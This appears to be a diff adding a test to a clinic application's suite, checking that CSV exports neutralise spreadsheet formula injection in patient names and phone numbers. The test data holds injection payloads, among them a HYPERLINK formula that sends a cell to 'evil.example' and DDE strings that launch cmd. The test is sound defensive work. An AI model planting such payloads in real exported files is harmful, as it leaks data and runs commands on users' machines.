@@ -63,6 +63,23 @@ describe.each(databaseKinds())('The clinic\'s rights: export, closure and the au
     expect(await db.prisma.auditEntry.count({ where: { clinicId: c.clinic.id, action: 'clinic.exported' } })).toBe(1);
   });
 
+  it('no cell of the export runs as a spreadsheet formula, whatever a patient\'s name or a caller\'s number says', async () => {
+    const c = await runningClinic();
+    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+    await db.prisma.patient.createMany({ data: names.map((name) => ({ clinicId: c.clinic.id, name, phone: '+447700900999' })) });
+    const files = unzipSync(new Uint8Array((await asBytes(c.owner.agent.get(`${c.base}/export.zip`))).body as Buffer));
+    // A cell starts after a comma or a line break, perhaps inside quotes: none may start a formula.
+    const formula = /(^|,)"?[=+\-@\t\r]/m;
+    for (const [name, bytes] of Object.entries(files).filter(([f]) => f.endsWith('.csv'))) expect([name, formula.exec(strFromU8(bytes))?.[0]]).toEqual([name, undefined]);
+    const patients = strFromU8(files['csv/patients.csv']!);
+    for (const name of names) expect(patients).toContain(`'${name.replace(/"/g, '""')}`);
+    // The JSON is data, not a spreadsheet: names stay exactly as given.
+    expect(JSON.parse(strFromU8(files['clinic.json']!)).patients.map((p: { name: string }) => p.name)).toEqual(expect.arrayContaining(names));
+    const calls = await c.owner.get(`${c.base}/calls.csv`);
+    expect(formula.exec(calls.text)).toBeNull();
+    expect(calls.text).toContain(`'${c.patient.phone}`);
+  });
+
   it('closing the clinic leaves nothing of it, deletes Twilio\'s copies, and a copy of a recording file can no longer be decrypted', async () => {
     const c = await runningClinic();
     const copied = (await c.ctx.recordings.get(c.stored.id))!;
